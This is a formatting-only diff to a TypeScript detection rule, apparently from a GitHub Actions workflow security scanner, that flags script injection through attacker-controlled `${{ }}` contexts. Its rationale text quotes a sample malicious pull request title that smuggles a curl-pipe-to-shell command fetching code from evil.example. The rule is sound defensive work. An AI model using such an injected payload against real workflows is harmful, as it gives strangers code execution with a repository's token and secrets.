@@ -1,7 +1,15 @@
 import type { RawFinding } from '../../../core/finding.js';
 import type { RuleDefinition } from '../../../core/rules.js';
 import type { Audit } from './audit.js';
-import { GITHUB_HARDENING, KeyCounter, SCORECARD_CHECKS, ZIZMOR_AUDITS, makeFinding, spanInScalar, stepKey } from './audit.js';
+import {
+  GITHUB_HARDENING,
+  KeyCounter,
+  SCORECARD_CHECKS,
+  ZIZMOR_AUDITS,
+  makeFinding,
+  spanInScalar,
+  stepKey,
+} from './audit.js';
 import type { StepModel, StringValue, WorkflowModel } from './model.js';
 import { stringValue, usesTarget } from './model.js';
 import { envVarName, taintedExpressions } from './taint.js';
@@ -16,15 +24,15 @@ export const rule: RuleDefinition = {
     '(`actions/github-script` `script:` and similar) whose value an attacker can choose: pull request, issue, ' +
     'comment, review and discussion titles and bodies, branch names (`github.head_ref`, ' +
     '`github.event.pull_request.head.ref`), commit messages and author names and e-mails, and any other ' +
-    '`github.event.*` field that is free text (the list follows zizmor\'s context capabilities). ' +
+    "`github.event.*` field that is free text (the list follows zizmor's context capabilities). " +
     'String-typed `workflow_dispatch` / `workflow_call` inputs and composite-action inputs are reported at ' +
     'medium severity, and `steps.*.outputs` / `needs.*.outputs` and run-time matrices at low severity, ' +
     'because they often carry such data one hop removed. Contexts that only feed a comparison or a boolean ' +
-    'function (`contains(github.event.issue.title, \'x\')`) are not reported.',
+    "function (`contains(github.event.issue.title, 'x')`) are not reported.",
   rationale:
     'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runtime sees it. A pull ' +
     'request titled `x"; curl -sSf https://evil.example/x | sh; echo "` therefore becomes part of the script ' +
-    'and runs with the job\'s token and secrets. In `pull_request_target`, `issue_comment` or `workflow_run` ' +
+    "and runs with the job's token and secrets. In `pull_request_target`, `issue_comment` or `workflow_run` " +
     'workflows this gives anyone with a GitHub account code execution with write access to the repository; ' +
     'it is the most common way GitHub Actions workflows are compromised.',
   fix:
@@ -74,7 +82,10 @@ export function run(workflow: WorkflowModel): RawFinding[] {
           const { expression, contexts } = tainted;
           const worst = contexts[0]!;
           const list = contexts.map((c) => `\`${c.context}\` ${c.why}`).join('; ');
-          const where = sink.name === 'run' ? 'a `run:` script' : `the \`${sink.name}\` code input of ${usesTarget(step.uses!.value)}`;
+          const where =
+            sink.name === 'run'
+              ? 'a `run:` script'
+              : `the \`${sink.name}\` code input of ${usesTarget(step.uses!.value)}`;
           const variable = envVarName(worst.context);
           findings.push(
             makeFinding(workflow, rule, {
